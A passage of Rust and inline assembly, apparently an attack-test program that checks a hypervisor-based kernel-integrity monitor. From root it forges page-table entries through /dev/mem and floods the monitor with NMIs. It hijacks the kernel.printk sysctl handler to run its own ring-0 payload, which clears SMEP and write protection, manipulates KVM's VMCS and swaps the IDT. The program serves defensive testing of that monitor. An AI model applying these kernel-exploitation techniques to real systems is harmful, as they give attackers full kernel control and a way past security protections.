        .find(|&i| in_monitor(page.read_u64(i * 8)))
        .ok_or("no PML4 entry of the user half points into the monitor")?;
    let entry = page.read_u64(slot * 8);
    Ok((page, user_half, slot, entry))
}

fn gate_pgd(cmdline: &str) -> Result<(), String> {
    let k = Kernel::learn()?;
    let monitor = monitor_address(cmdline)?;
    let mem = open_mem()?;
    let (page, user_half, slot, entry) = gate_slot(&k, &mem, monitor)?;
    // Anywhere else: the next frame, where an attacker would have put a copy of the gate's tables.
    let forged = entry + PAGE;
    say(&format!(
        "ihmi-attack: init_top_pgt's user half at {user_half:#x} maps the gate in slot {slot} ({entry:#x}); writing {forged:#x} through /dev/mem"
    ));
    page.write_u64(slot * 8, forged);
    say("ihmi-attack: redirecting the gate's slot was ACCEPTED: new processes copy it");
    Ok(())
}

/// Guest RAM as the kernel lists it in /proc/iomem (`System RAM`), physical `[start, end)`.
fn system_ram() -> Result<Vec<(u64, u64)>, String> {
    let iomem = fs::read_to_string("/proc/iomem").map_err(|e| format!("/proc/iomem: {e}"))?;
    Ok(iomem
        .lines()
        .filter(|l| !l.starts_with(' ') && l.trim_end().ends_with(": System RAM"))
        .filter_map(|l| {
            let (a, b) = l.split(':').next()?.trim().split_once('-')?;
            Some((
                u64::from_str_radix(a, 16).ok()?,
                u64::from_str_radix(b, 16).ok()? + 1,
            ))
        })
        .collect())
}

/// Guest RAM in 2 MiB-aligned windows `[start, end)`, the monitor's 2 MiB region (one whole window,
/// which root must not touch: reading it stops the guest) left out.
fn ram_windows(monitor: u64) -> Result<Vec<(u64, u64)>, String> {
    let mut windows = Vec::new();
    for (start, end) in system_ram()? {
        let mut at = start & !(PAGE - 1);
        while at < end {
            let next = ((at / MONITOR_SIZE + 1) * MONITOR_SIZE).min(end);
            if !(monitor..monitor + MONITOR_SIZE).contains(&at) {
                windows.push((at, next));
            }
            at = next;
        }
    }
    Ok(windows)
}

/// The physical address of one of this process's pages (root reads PFNs in /proc/self/pagemap).
fn own_frame(va: *const u8) -> Result<u64, String> {
    let pagemap = File::open("/proc/self/pagemap").map_err(|e| format!("pagemap: {e}"))?;
    let mut entry = [0u8; 8];
    pagemap
        .read_exact_at(&mut entry, (va as u64 / PAGE) * 8)
        .map_err(|e| format!("pagemap: {e}"))?;
    let e = u64::from_le_bytes(entry);
    if e & (1 << 63) == 0 || e & ((1 << 55) - 1) == 0 {
        return Err("pagemap shows no frame (not root?)".into());
    }
    Ok((e & ((1 << 55) - 1)) * PAGE)
}

fn process_pgd(cmdline: &str) -> Result<(), String> {
    let k = Kernel::learn()?;
    let monitor = monitor_address(cmdline)?;
    let mem = open_mem()?;
    let (_, user_half, slot, entry) = gate_slot(&k, &mem, monitor)?;
    // A copy of the gate's three tables in three locked pages of ours, linked to each other.
    // SAFETY: a fresh private anonymous mapping of three pages.
    let copy = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            3 * PAGE as usize,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_LOCKED | libc::MAP_POPULATE,
            -1,
            0,
        )
    };
    if copy == libc::MAP_FAILED {
        return Err(format!("mmap: {}", io::Error::last_os_error()));
    }
    let copy: &mut [u64] = {
        // SAFETY: the three pages just mapped, ours alone, as 1536 u64s.
        unsafe { std::slice::from_raw_parts_mut(copy.cast::<u64>(), 3 * 512) }
    };
    let mut frames = [0u64; 3];
    for (i, f) in frames.iter_mut().enumerate() {
        *f = own_frame(copy.as_ptr().wrapping_add(i * 512).cast())?;
    }
    let mut table = entry & ADDRESS;
    for level in 0..3 {
        let mut bytes = vec![0u8; PAGE as usize];
        mem.read_exact_at(&mut bytes, table)
            .map_err(|e| format!("reading the gate's table at {table:#x}: {e}"))?;
        let dst = &mut copy[level * 512..(level + 1) * 512];
        for (i, w) in bytes.chunks_exact(8).enumerate() {
            dst[i] = u64::from_le_bytes(w.try_into().expect("8 bytes"));
        }
        if level < 2 {
            // The one present entry leads on; point it at our copy of the next table.
            let next = (0..512)
                .find(|&i| dst[i] & 1 != 0)
                .ok_or("a gate table with no present entry")?;
            table = dst[next] & ADDRESS;
            dst[next] = (dst[next] & !ADDRESS) | frames[level + 1];
        }
    }
    let forged = (entry & !ADDRESS) | frames[0];
    // Every other page that holds the gate's entry in that slot is a process's PGD half: scan RAM.
    let kernel_pgd = user_half - PAGE;
    let mut changed = 0u64;
    for (at, next) in ram_windows(monitor)? {
        let pages = PhysPage::map_range(&mem, at, next - at)
            .map_err(|e| format!("mapping {at:#x}: {e}"))?;
        for page in (0..next - at).step_by(PAGE as usize) {
            let pa = at + page;
            let offset = page as usize + slot * 8;
            if pa != kernel_pgd && pa != user_half && pages.read_u64(offset) == entry {
                pages.write_u64(offset, forged);
                changed += 1;
            }
        }
    }
    say(&format!(
        "ihmi-attack: the gate's slot {slot} now points at our copy of its tables ({forged:#x}) in {changed} process PGD halves"
    ));
    // Keep running on the redirected mapping, making system calls through it.
    for _ in 0..1000 {
        // SAFETY: getpid has no arguments and no effect.
        unsafe { libc::getpid() };
    }
    say("ihmi-attack: redirecting the gate in the processes' PGDs went UNNOTICED");
    Ok(())
}

fn flood() {
    say(&format!(
        "ihmi-attack: flooding the monitor with {} getpid calls",
        ihmi_abi::attack::LINUX_FLOOD_CALLS
    ));
    for _ in 0..ihmi_abi::attack::LINUX_FLOOD_CALLS {
        // SAFETY: getpid takes no arguments and changes nothing.
        unsafe { libc::syscall(ihmi_abi::attack::LINUX_FLOOD_NR as libc::c_long) };
    }
    say("ihmi-attack: flood done");
}

/// `getpid` through `int $0x80`: the i386 number in EAX, the result in EAX.
fn int80_getpid() -> u32 {
    let mut eax = ihmi_abi::attack::LINUX_COMPAT_NR as u32;
    // SAFETY: the 32-bit system-call entry; getpid takes no arguments and changes no memory.
    unsafe {
        core::arch::asm!(
            "int 0x80",
            inout("eax") eax,
            // Kernels before 5.x zeroed R8-R11 on the way back from a 32-bit entry.
            lateout("r8") _,
            lateout("r9") _,
            lateout("r10") _,
            lateout("r11") _,
            options(nostack),
        );
    }
    eax
}

/// `getpid` through SYSENTER, in a child: SYSENTER keeps no return address, and the kernel returns
/// to the landing pad of the 32-bit vDSO, which a 64-bit process does not have, so the child ends
/// there by a signal. The kernel reads the stack EBP points at (the sixth argument) first, so EBP
/// points at a page below 4 GiB.
fn sysenter_getpid_in_child(low_stack: u64) -> Result<(), String> {
    // SAFETY: fork in a single-threaded program; the child only runs the asm below and never returns.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        return Err(format!("fork: {}", io::Error::last_os_error()));
    }
    if pid == 0 {
        // SAFETY: the child gives up its stack and registers to the kernel; it never comes back.
        unsafe {
            core::arch::asm!(
                "mov rsp, {stack}",
                "mov rbp, {stack}",
                "sysenter",
                "ud2",
                stack = in(reg) low_stack,
                in("eax") ihmi_abi::attack::LINUX_COMPAT_NR as u32,
                options(noreturn),
            );
        }
    }
    let mut status = 0;
    // SAFETY: waits for the child just made.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    Ok(())
}

fn compat() -> Result<(), String> {
    let calls = ihmi_abi::attack::LINUX_COMPAT_CALLS;
    // SAFETY: getpid has no effect.
    let pid = unsafe { libc::getpid() } as u32;
    for _ in 0..calls {
        let got = int80_getpid();
        if got != pid {
            return Err(format!("int $0x80 getpid gave {got}, not {pid}"));
        }
    }
    say(&format!(
        "ihmi-attack: {calls} getpid calls through int $0x80 returned our pid {pid}"
    ));
    // SAFETY: a fresh private anonymous page below 4 GiB for the children's SYSENTER stack.
    let low = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            PAGE as usize,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT | libc::MAP_POPULATE,
            -1,
            0,
        )
    };
    if low == libc::MAP_FAILED {
        return Err(format!("mmap below 4 GiB: {}", io::Error::last_os_error()));
    }
    let stack = low as u64 + PAGE - 64;
    for _ in 0..calls {
        sysenter_getpid_in_child(stack)?;
    }
    say(&format!(
        "ihmi-attack: {calls} getpid calls through SYSENTER made, one child each"
    ));
    Ok(())
}

/// The I/O APIC's registers (its default base; /proc/iomem names it "IOAPIC 0" when the kernel
/// uses it): an index register and a data window.
const IOAPIC_BASE: u64 = 0xfec0_0000;
const IOAPIC_INDEX: usize = 0x00;
const IOAPIC_DATA: usize = 0x10;
/// The RTC's interrupt: ISA IRQ 8, I/O APIC pin 8 (no interrupt-source override moves it).
const RTC_PIN: u32 = 8;
/// A redirection entry's low word for an NMI (delivery mode 100b), edge-triggered, unmasked, to the
/// physical destination in the high word (APIC ID 0, the only CPU).
const NMI_ENTRY: u32 = 0b100 << 8;
/// The RTC's index and data ports, its registers A (rate), B (interrupt enables) and C (flags, which
/// reading acknowledges), B's periodic-interrupt enable and A's 32.768 kHz divider with rate 6
/// (1,024 interrupts a second).
const RTC_INDEX: u16 = 0x70;
const RTC_DATA: u16 = 0x71;
const RTC_A: u8 = 0x0a;
const RTC_B: u8 = 0x0b;
const RTC_C: u8 = 0x0c;
const RTC_PIE: u8 = 1 << 6;
const RTC_1024_HZ: u8 = 0x26;

/// An RTC register (the index keeps bit 7, the chipset's NMI mask, clear).
fn rtc(reg: u8) -> u8 {
    outb(RTC_INDEX, reg);
    inb(RTC_DATA)
}

fn set_rtc(reg: u8, value: u8) {
    outb(RTC_INDEX, reg);
    outb(RTC_DATA, value);
}

/// The NMIs the kernel has taken: the first count on the `NMI:` line of /proc/interrupts.
fn kernel_nmis() -> Result<u64, String> {
    let text =
        fs::read_to_string("/proc/interrupts").map_err(|e| format!("/proc/interrupts: {e}"))?;
    text.lines()
        .find_map(|l| l.trim_start().strip_prefix("NMI:"))
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .ok_or_else(|| "no NMI count in /proc/interrupts".to_string())
}

struct IoApic(PhysPage);

impl IoApic {
    fn read(&self, reg: u32) -> u32 {
        self.0.write_u32(IOAPIC_INDEX, reg);
        self.0.read_u32(IOAPIC_DATA)
    }

    fn write(&self, reg: u32, value: u32) {
        self.0.write_u32(IOAPIC_INDEX, reg);
        self.0.write_u32(IOAPIC_DATA, value);
    }
}

fn nmi() -> Result<(), String> {
    grant(RTC_INDEX, 2).map_err(|e| format!("ioperm for the RTC: {e}"))?;
    let mem = open_mem()?;
    let ioapic =
        IoApic(PhysPage::map(&mem, IOAPIC_BASE).map_err(|e| format!("mapping the I/O APIC: {e}"))?);
    let (low, high) = (0x10 + 2 * RTC_PIN, 0x11 + 2 * RTC_PIN);
    let saved = (ioapic.read(low), ioapic.read(high));
    let (saved_a, saved_b) = (rtc(RTC_A), rtc(RTC_B));
    let before = kernel_nmis()?;
    say(&format!(
        "ihmi-attack: routing the RTC (I/O APIC pin {RTC_PIN}, entry {:#x}:{:#x}) as NMIs at 1024 Hz during {} getpid calls",
        saved.1,
        saved.0,
        ihmi_abi::attack::LINUX_NMI_CALLS
    ));
    ioapic.write(high, 0);
    ioapic.write(low, NMI_ENTRY);
    set_rtc(RTC_A, RTC_1024_HZ);
    set_rtc(RTC_B, saved_b | RTC_PIE);
    rtc(RTC_C);
    for _ in 0..ihmi_abi::attack::LINUX_NMI_CALLS {
        // SAFETY: getpid takes no arguments and changes nothing.
        unsafe { libc::syscall(libc::SYS_getpid) };
        // Acknowledge the tick, so the next one raises the line (an edge) again.
        rtc(RTC_C);
    }
    set_rtc(RTC_B, saved_b & !RTC_PIE);
    set_rtc(RTC_A, saved_a);
    rtc(RTC_C);
    ioapic.write(low, saved.0 | (1 << 16));
    ioapic.write(high, saved.1);
    ioapic.write(low, saved.0);
    let seen = kernel_nmis()? - before;
    say(&format!(
        "ihmi-attack: the kernel took {seen} NMIs and the guest is still running"
    ));
    println!("{}{seen}", ihmi_abi::attack::LINUX_NMI_REPORT);
    debug_line(&format!("{}{seen}", ihmi_abi::attack::LINUX_NMI_REPORT))
        .map_err(|e| format!("port 0xE9: {e}"))
}

// The ring-0 payload, copied into the attacker's page and run there at its kernel alias as a sysctl
// handler: `int handler(table, write, buffer, lenp, ppos)`. Position-independent; its data block
// follows it in the same page. The operation is the data block's first word:
// 1 = call the gate at word 1 with request word 2 and first argument word 3, the verdict into word 4;
// 2 = clear CR4.SMEP; 3 = clear CR0.WP; 4 = VMWRITE word 3 into the current VMCS's field word 2,
// RFLAGS after it into word 4; 5 = with interrupts off, the current VMCS's address into word 5
// (VMPTRST), VMCLEAR and VMPTRLD of the region at word 2, VMLAUNCH, RFLAGS after it into word 4
// and the VM-instruction error into word 6, VMCLEAR of that region, then VMPTRLD of word 5's again
// (unless there was none), RFLAGS after it into word 7; 6 = run the current VMCS's guest (KVM's)
// from here, word 2 times (the `kvm-starve` attack, see `kvm_starve`), with word 3 for `@vmx` in the
// forged frame: the VMCS into word 5 (-1: none), RFLAGS and the VM-instruction error of a VMRESUME
// that failed into words 4 and 8, the exits taken into word 6, the last one's basic reason into
// word 7, the fields it changes saved in words 9 to 14 and put back, the OR of RFLAGS after those
// VMWRITEs into word 15; 7 = with interrupts off, SIDT (its base into word 12), LIDT of a table at
// word 2 (limit 0xFFF), a CPUID (an exit), SIDT (its base into word 13), then LIDT of the first
// SIDT's value again. It returns 0 with nothing read.
core::arch::global_asm!(
    r#"
    .section .rodata.ihmi_forge, "a"
    .balign 16
    .global ihmi_forge_code
ihmi_forge_code:
    endbr64
    push %rbx
    mov %rcx, %rbx
    lea ihmi_forge_data(%rip), %rax
    mov 0(%rax), %rdi
    cmp $1, %rdi
    je 1f
    cmp $2, %rdi
    je 2f
    cmp $3, %rdi
    je 3f
    cmp $4, %rdi
    je 4f
    cmp $5, %rdi
    je 5f
    cmp $6, %rdi
    je 60f
    cmp $7, %rdi
    je 70f
    jmp 9f
1:  mov 16(%rax), %rdi
    mov 24(%rax), %rsi
    xor %edx, %edx
    xor %ecx, %ecx
    xor %r8d, %r8d
    mov 8(%rax), %rax
    call *%rax
    lea ihmi_forge_data(%rip), %rcx
    mov %rax, 32(%rcx)
    jmp 9f
2:  mov %cr4, %rax
    btr $20, %rax
    mov %rax, %cr4
    jmp 9f
3:  mov %cr0, %rax
    btr $16, %rax
    mov %rax, %cr0
    jmp 9f
4:  mov 16(%rax), %rdi
    mov 24(%rax), %rsi
    vmwrite %rsi, %rdi
    pushfq
    pop %rdx
    lea ihmi_forge_data(%rip), %rcx
    mov %rdx, 32(%rcx)
    jmp 9f
5:  pushfq
    cli
    lea ihmi_forge_data(%rip), %rcx
    vmptrst 40(%rcx)
    vmclear 16(%rcx)
    vmptrld 16(%rcx)
    vmlaunch
    pushfq
    pop %rdx
    mov %rdx, 32(%rcx)
    mov $0x4400, %edx
    vmread %rdx, %rax
    mov %rax, 48(%rcx)
    vmclear 16(%rcx)
    cmpq $-1, 40(%rcx)
    je 6f
    vmptrld 40(%rcx)
    pushfq
    pop %rdx
    mov %rdx, 56(%rcx)
6:  popfq
    jmp 9f
    // Operation 6. KVM's VMRESUME runs in `__vmx_vcpu_run`, and the exit comes back to its
    // `vmx_vmexit` (HOST_RIP), which saves L2's registers at the `@regs` it finds on the stack, pops
    // `@flags` and `@vmx` for `vmx_spec_ctrl_restore_host`, then RBX, R12-R15 and RBP, and returns.
    // So a frame of that shape at HOST_RSP brings each exit back here.
60: pushfq
    cli
    push %rbp
    push %r12
    push %r13
    push %r14
    push %r15
    lea ihmi_forge_data(%rip), %r12
    movq $-1, 40(%r12)
    vmptrst 40(%r12)
    cmpq $-1, 40(%r12)
    je 69f
    // KVM's values of what changes: HOST_RSP, HOST_CR3, HOST_FS_BASE, the primary processor-based
    // controls, L2's RFLAGS and interruptibility state (field encoding, data-block offset each).
    .macro ihmi_starve_fields do
    \do 0x6c14, 72
    \do 0x6c02, 80
    \do 0x6c06, 88
    \do 0x4002, 96
    \do 0x6820, 104
    \do 0x4824, 112
    .endm
    .macro ihmi_starve_save field, at
    mov $\field, %eax
    vmread %rax, \at(%r12)
    .endm
    // Put back with the CF and ZF of each VMWRITE OR-ed into R13.
    .macro ihmi_starve_restore field, at
    mov $\field, %eax
    vmwrite \at(%r12), %rax
    pushfq
    pop %rcx
    or %rcx, %r13
    .endm
    ihmi_starve_fields ihmi_starve_save
    // The host state L0 compares with L1's at each entry: this address space and this process's
    // FS base (HOST_RSP is written before each VMRESUME).
    mov %cr3, %rdx
    mov $0x6c02, %eax
    vmwrite %rdx, %rax
    mov $0xc0000100, %ecx
    rdmsr
    shl $32, %rdx
    or %rax, %rdx
    mov $0x6c06, %eax
    vmwrite %rdx, %rax
    // An exit before L2's first instruction, so that L2 never runs a step with these registers:
    // interrupt-window exiting, with L2's IF set and no STI or MOV SS blocking.
    mov 96(%r12), %rdx
    or $4, %rdx
    mov $0x4002, %eax
    vmwrite %rdx, %rax
    mov 104(%r12), %rdx
    or $0x200, %rdx
    mov $0x6820, %eax
    vmwrite %rdx, %rax
    xor %edx, %edx
    mov $0x4824, %eax
    vmwrite %rdx, %rax
    mov 16(%r12), %r13
    xor %r14d, %r14d
    // Where `vmx_vmexit` saves L2's registers.
    sub $128, %rsp
    mov %rsp, %r15
61: lea 62f(%rip), %rax
    push %rax
    push %rbp
    push %r15
    push %r14
    push %r13
    push %r12
    push %rbx
    pushq 24(%r12)
    pushq $0
    push %r15
    mov $0x6c14, %eax
    vmwrite %rsp, %rax
    vmresume
    pushfq
    pop %rax
    mov %rax, 32(%r12)
    mov $0x4400, %eax
    vmread %rax, 64(%r12)
    add $80, %rsp
    jmp 66f
62: inc %r14
    mov $0x4402, %eax
    vmread %rax, %rdx
    movzwl %dx, %edx
    mov %rdx, 56(%r12)
    cmp $7, %edx
    je 65f
    cmp $1, %edx
    jne 66f
    // An interrupt of L1's, acknowledged on exit: L1's own handler takes it, as KVM would hand it
    // on (an interrupt frame built by hand, the gate from the IDT).
    mov $0x4404, %eax
    vmread %rax, %rdx
    bt $31, %edx
    jnc 65f
    movzbl %dl, %edx
    shl $4, %rdx
    sub $16, %rsp
    sidt (%rsp)
    mov 2(%rsp), %rax
    add $16, %rsp
    add %rdx, %rax
    movzwl (%rax), %ecx
    movzwl 6(%rax), %edx
    shl $16, %edx
    or %edx, %ecx
    mov 8(%rax), %edx
    shl $32, %rdx
    or %rcx, %rdx
    mov %rsp, %rbp
    and $-16, %rsp
    pushq $0x18
    push %rbp
    pushfq
    pushq $0x10
    call *%rdx
    mov %rbp, %rsp
65: dec %r13
    jnz 61b
66: add $128, %rsp
    mov %r14, 48(%r12)
    // KVM's fields back, as its caches of them say they are.
    xor %r13d, %r13d
    ihmi_starve_fields ihmi_starve_restore
    and $0x41, %r13
    mov %r13, 120(%r12)
69: pop %r15
    pop %r14
    pop %r13
    pop %r12
    pop %rbp
    popfq
    jmp 9f
    // Operation 7. The pseudo-descriptors (2-byte limit, 8-byte base) go in words 5-6, 7-8 and
    // 10-11; CPUID clobbers RBX, which the epilogue needs.
70: pushfq
    cli
    lea ihmi_forge_data(%rip), %rcx
    sidt 40(%rcx)
    mov 42(%rcx), %rax
    mov %rax, 96(%rcx)
    movw $0xfff, 80(%rcx)
    mov 16(%rcx), %rax
    mov %rax, 82(%rcx)
    lidt 80(%rcx)
    push %rbx
    xor %eax, %eax
    xor %ecx, %ecx
    cpuid
    pop %rbx
    lea ihmi_forge_data(%rip), %rcx
    sidt 56(%rcx)
    mov 58(%rcx), %rax
    mov %rax, 104(%rcx)
    lidt 40(%rcx)
    popfq
9:  movq $0, (%rbx)
    xor %eax, %eax
    pop %rbx
    ret
    .balign 64
ihmi_forge_data:
    .fill 16, 8, 0
    .global ihmi_forge_end
ihmi_forge_end:
"#,
    options(att_syntax)
);

extern "C" {
    static ihmi_forge_code: u8;
    static ihmi_forge_end: u8;
}

/// The payload's bytes, and where its data block starts in them.
fn forge_payload() -> (&'static [u8], usize) {
    // Both symbols are in the block above, in this order, in one section.
    let (start, end) = (
        core::ptr::addr_of!(ihmi_forge_code),
        core::ptr::addr_of!(ihmi_forge_end),
    );
    let len = end as usize - start as usize;
    // SAFETY: `len` bytes of read-only data from `start`.
    (unsafe { std::slice::from_raw_parts(start, len) }, len - 128)
}

/// Where the attacker's page shows up in the kernel: the direct map's PML4 slot (273, as Linux
/// without KASLR puts it), its page directory pointer table's entry 510, never used with 256 MiB.
const FORGE_ALIAS: u64 = DIRECT_MAP + 510 * (1 << 30);
/// Where Linux without KASLR maps all of physical memory (`PAGE_OFFSET`).
const DIRECT_MAP: u64 = 0xffff_8880_0000_0000;
const DIRECT_MAP_SLOT: u64 = 273;
/// A page-table entry for a supervisor page (or table): present, writable, accessed (and dirty),
/// executable.
const SUPERVISOR_TABLE: u64 = 0x23;
const SUPERVISOR_PAGE: u64 = 0x63;
/// `struct ctl_table`: the handler pointer after procname, data, maxlen + mode, child.
const CTL_TABLE_HANDLER: u64 = 32;

/// A zeroed, locked page of this process, with its frame. Shared, so that a fork leaves it where it
/// is: a private page would be copied on the next write, away from the frame the kernel maps.
fn locked_page() -> Result<(*mut u8, u64), String> {
    // SAFETY: a fresh shared anonymous mapping; nothing else refers to it.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            PAGE as usize,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_SHARED | libc::MAP_ANONYMOUS | libc::MAP_POPULATE | libc::MAP_LOCKED,
            -1,
            0,
        )
    };
    if p == libc::MAP_FAILED {
        return Err(format!("mmap: {}", io::Error::last_os_error()));
    }
    let p = p.cast::<u8>();
    // SAFETY: the page is this process's, writable.
    unsafe { p.write_volatile(0) };
    Ok((p, own_frame(p)?))
}

/// The ring-0 foothold: the page and its data block, the kernel's PDPT entry it added and the
/// sysctl handler it replaced, undone by `leave`.
struct Ring0 {
    page: *mut u8,
    data: usize,
    pdpt_entry: u64,
    handler_at: u64,
    handler: u64,
}

impl Ring0 {
    fn set(&self, word: usize, value: u64) {
        // SAFETY: inside this process's page, in the payload's data block.
        unsafe {
            self.page
                .wrapping_add(self.data + 8 * word)
                .cast::<u64>()
                .write_volatile(value)
        };
    }

    fn get(&self, word: usize) -> u64 {
        // SAFETY: as above.
        unsafe {
            self.page
                .wrapping_add(self.data + 8 * word)
                .cast::<u64>()
                .read_volatile()
        }
    }

    /// Runs the payload's operation `op` in ring 0: the kernel calls the handler when the sysctl is
    /// read.
    fn run(&self, op: u64) -> Result<(), String> {
        self.set(0, op);
        fs::read("/proc/sys/kernel/printk")
            .map(drop)
            .map_err(|e| format!("reading /proc/sys/kernel/printk: {e}"))
    }

    fn leave(&self, mem: &File) -> Result<(), String> {
        mem.write_all_at(&self.handler.to_le_bytes(), self.handler_at)
            .and_then(|()| mem.write_all_at(&0u64.to_le_bytes(), self.pdpt_entry))
            .map_err(|e| format!("undoing the foothold: {e}"))
    }
}

fn enter_ring0(k: &Kernel, mem: &File) -> Result<Ring0, String> {
    let (page, frame) = locked_page()?;
    let (pd, pd_frame) = locked_page()?;
    let (pt, pt_frame) = locked_page()?;
    let (code, data) = forge_payload();
    // SAFETY: the page is this process's and the payload shorter than it.
    unsafe { std::ptr::copy_nonoverlapping(code.as_ptr(), page, code.len()) };
    // SAFETY: the table pages are this process's: their first entries.
    unsafe { pd.cast::<u64>().write_volatile(pt_frame | SUPERVISOR_TABLE) };
    // SAFETY: as above.
    unsafe { pt.cast::<u64>().write_volatile(frame | SUPERVISOR_PAGE) };
    // The kernel's PML4 (readable: L0 locks it read-only) gives the direct map's PDPT.
    let mut entry = [0u8; 8];
    mem.read_exact_at(
        &mut entry,
        k.pa(k.symbol("init_top_pgt")?) + DIRECT_MAP_SLOT * 8,
    )
    .map_err(|e| format!("reading the PML4: {e}"))?;
    let pdpt = u64::from_le_bytes(entry) & ADDRESS;
    let pdpt_entry = pdpt + ((FORGE_ALIAS >> 30) & 511) * 8;
    mem.read_exact_at(&mut entry, pdpt_entry)
        .map_err(|e| format!("reading the PDPT: {e}"))?;
    if u64::from_le_bytes(entry) != 0 {
        return Err(format!("PDPT entry at {pdpt_entry:#x} is in use"));
    }
    // The `kernel.printk` sysctl: its table is kernel data, the first entry's handler proc_dointvec.
    let handler_at = k.pa(k.symbol("printk_sysctls")?) + CTL_TABLE_HANDLER;
    let mut handler = [0u8; 8];
    mem.read_exact_at(&mut handler, handler_at)
        .map_err(|e| format!("reading the sysctl table: {e}"))?;
    let handler = u64::from_le_bytes(handler);
    if handler != k.symbol("proc_dointvec")? {
        return Err(format!(
            "the printk sysctl's handler is {handler:#x}, not proc_dointvec"
        ));
    }
    say(&format!(
        "ihmi-attack: mapping my page {frame:#x} supervisor-executable at {FORGE_ALIAS:#x} (PDPT entry {pdpt_entry:#x}) and pointing kernel.printk's handler ({handler_at:#x}) at it"
    ));
    mem.write_all_at(&(pd_frame | SUPERVISOR_TABLE).to_le_bytes(), pdpt_entry)
        .map_err(|e| format!("writing the PDPT: {e}"))?;
    mem.write_all_at(&FORGE_ALIAS.to_le_bytes(), handler_at)
        .map_err(|e| format!("writing the sysctl handler: {e}"))?;
    Ok(Ring0 {
        page,
        data,
        pdpt_entry,
        handler_at,
        handler,
    })
}

/// The call gate's address: its code opens the gate page in the monitor's region (endbr64; pushfq;
/// cli), which view 0 shows read + execute.
fn call_gate(mem: &File, cmdline: &str) -> Result<u64, String> {
    let monitor = monitor_address(cmdline)?;
    let mut gate = vec![0u8; PAGE as usize];
    mem.read_exact_at(&mut gate, monitor)
        .map_err(|e| format!("reading the gate page: {e}"))?;
    let at = gate
        .windows(6)
        .position(|w| w == [0xf3, 0x0f, 0x1e, 0xfa, 0x9c, 0xfa])
        .ok_or("no call gate in the gate page")?;
    Ok(ihmi_abi::monitor::LINUX_GATE_GVA + at as u64)
}

/// Runs `op` in a child, which the refusal kills; says how the child ended.
fn in_child(ring0: &Ring0, op: u64, what: &str) -> Result<(), String> {
    // SAFETY: the child only runs the payload and exits; this program is single-threaded.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        return Err(format!("fork: {}", io::Error::last_os_error()));
    }
    if pid == 0 {
        let _ = ring0.run(op);
        say(&format!("ihmi-attack: {what} was ACCEPTED"));
        std::process::exit(0);
    }
    let mut status = 0;
    // SAFETY: waits for the child just made.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
        return Err(format!("{what} went through"));
    }
    say(&format!(
        "ihmi-attack: {what} was refused: the kernel killed the writer (status {status:#x})"
    ));
    Ok(())
}

fn forge(cmdline: &str) -> Result<(), String> {
    use ihmi_abi::monitor::{RequestCode, Verdict};
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    let gate = call_gate(&mem, cmdline)?;
    let ring0 = enter_ring0(&k, &mem)?;
    ring0.set(1, gate);
    // A system call the process never made, and an exec of a program that does not exist (the
    // binprm is the payload's own data block, at its kernel alias).
    let forged = [
        (
            RequestCode::Syscall,
            ihmi_abi::attack::LINUX_FORGED_SYSCALL_NR,
        ),
        (RequestCode::Exec, FORGE_ALIAS + ring0.data as u64),
    ];
    for (request, arg) in forged {
        ring0.set(2, request as u64);
        ring0.set(3, arg);
        ring0.set(4, u64::MAX);
        ring0.run(1)?;
        let verdict = Verdict::from_raw(ring0.get(4));
        say(&format!(
            "ihmi-attack: ring 0 called the gate at {gate:#x} with a forged {request:?} request: verdict {verdict:?}"
        ));
        if verdict != Some(Verdict::Rejected) {
            ring0.leave(&mem)?;
            return Err(format!("the forged {request:?} request was not rejected"));
        }
    }
    let pins = [(2, "clearing CR4.SMEP"), (3, "clearing CR0.WP")];
    let result = pins
        .into_iter()
        .try_for_each(|(op, what)| in_child(&ring0, op, what));
    if let Err(e) = result {
        ring0.leave(&mem)?;
        return Err(e);
    }
    // Another IDT: the kernel's own table through its direct-map alias (so that nothing breaks if
    // it stayed), loaded with LIDT, which does not exit; then an exit of the CPU's own (CPUID).
    let idt = DIRECT_MAP + k.pa(k.symbol("idt_table")?);
    ring0.set(2, idt);
    let ran = ring0.run(7);
    ring0.leave(&mem)?;
    ran?;
    let (before, after) = (ring0.get(12), ring0.get(13));
    say(&format!(
        "{}{idt:#x} {before:#x} {after:#x}",
        ihmi_abi::attack::LINUX_IDT_LINE
    ));
    if after != before {
        return Err(format!(
            "the IDT loaded at {idt:#x} was still there after an exit ({after:#x})"
        ));
    }
    say("ihmi-attack: ring-0 code ran, but the monitor rejected both forgeries, L0 kept the pins and put the IDT back");
    Ok(())
}

/// io_uring's user-space ABI (the kernel's include/uapi/linux/io_uring.h): the system calls, the
/// mmap offsets of the rings, `io_uring_params` with its ring offsets, and the SQE and CQE layouts.
mod uring {
    pub const SYS_SETUP: libc::c_long = 425;
    pub const SYS_ENTER: libc::c_long = 426;
    pub const OFF_SQ_RING: i64 = 0;
    pub const OFF_CQ_RING: i64 = 0x0800_0000;
    pub const OFF_SQES: i64 = 0x1000_0000;
    pub const ENTER_GETEVENTS: u32 = 1;
    pub const SQE_SIZE: usize = 64;
    pub const CQE_SIZE: usize = 16;

    /// `io_uring_params`: the entry counts, then the SQ ring's offsets (head, tail, ring mask,
    /// ring entries, flags, dropped, array) from byte 40, the CQ ring's (head, tail, ring mask,
    /// ring entries, overflow, cqes) from byte 80.
    #[repr(C)]
    pub struct Params {
        pub sq_entries: u32,
        pub cq_entries: u32,
        pub rest: [u32; 28],
    }

    impl Params {
        pub fn sq(&self, i: usize) -> usize {
            self.rest[(40 - 8) / 4 + i] as usize
        }
        pub fn cq(&self, i: usize) -> usize {
            self.rest[(80 - 8) / 4 + i] as usize
        }
    }
}

/// A mapping of one of the ring's regions.
fn map_ring(fd: i32, len: usize, offset: i64) -> Result<*mut u8, String> {
    // SAFETY: a fresh shared mapping of the ring's region; the kernel sized it.
    let p = unsafe {
        libc::mmap(
